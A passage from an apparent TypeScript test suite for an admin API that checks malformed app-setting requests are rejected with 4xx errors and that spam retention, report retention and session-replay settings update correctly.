    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: { mode: 'masked', extra: 1 } }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: 'masked' }],
    ['PATCH', '/admin/api/orgs/{org}/apps/{app}', { replay: { mode: 'masked\u0000' } }],
    ['POST', '/admin/api/orgs/{org}/apps', { name: 'Fuzzed', proofOfWork: ['normal'] }],
  ]
  test.each(JUNK)('%s %s with junk: a 4xx envelope, never a 5xx', async (method, path, body) => {
    const r = await as(owner, method, path.replace('{org}', acme.orgId).replace('{app}', acme.appId), body)
    expect(r.status).toBeGreaterThanOrEqual(400)
    expect(r.status).toBeLessThan(500)
    expect(r.body.error.code).toBeString()
  })

  test('junk abuse-defence settings leave the App as it was', async () => {
    const apps = (await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/apps`)).body.data
    expect(apps.find((a: any) => a.id === acme.appId)).toMatchObject({ proofOfWork: 'off', spamEvents: false, spamRetentionDays: 30, replay: { mode: 'off', seconds: 60 } })
    expect(apps.some((a: any) => a.name === 'Fuzzed')).toBe(false)
  })

  test('the App page sets how long spam is kept (0: forever)', async () => {
    const path = `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}`
    expect((await as(owner, 'PATCH', path, { spamRetentionDays: 0 })).body.spamRetentionDays).toBe(0)
    expect((await as(owner, 'PATCH', path, { spamRetentionDays: 30 })).body.spamRetentionDays).toBe(30)
  })

  test('the App page sets how long reports are kept (0: forever)', async () => {
    const path = `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}`
    expect((await as(owner, 'PATCH', path, { retentionDays: 90 })).body.retentionDays).toBe(90)
    expect((await as(owner, 'PATCH', path, { retentionDays: 0 })).body.retentionDays).toBe(0)
  })

  test('the App page sets session replay; a part left out keeps its value', async () => {
    const path = `/admin/api/orgs/${acme.orgId}/apps/${acme.appId}`
    expect((await as(owner, 'PATCH', path, { replay: { mode: 'masked', seconds: 45 } })).body.replay).toEqual({ mode: 'masked', seconds: 45 })
    expect((await as(owner, 'PATCH', path, { replay: { mode: 'inputs' } })).body.replay).toEqual({ mode: 'inputs', seconds: 45 })
    const apps = (await as(owner, 'GET', `/admin/api/orgs/${acme.orgId}/apps`)).body.data
    expect(apps.find((a: any) => a.id === acme.appId).replay).toEqual({ mode: 'inputs', seconds: 45 })
    expect((await as(owner, 'PATCH', path, { replay: { mode: 'off', seconds: 60 } })).body.replay).toEqual({ mode: 'off', seconds: 60 })
  })
})
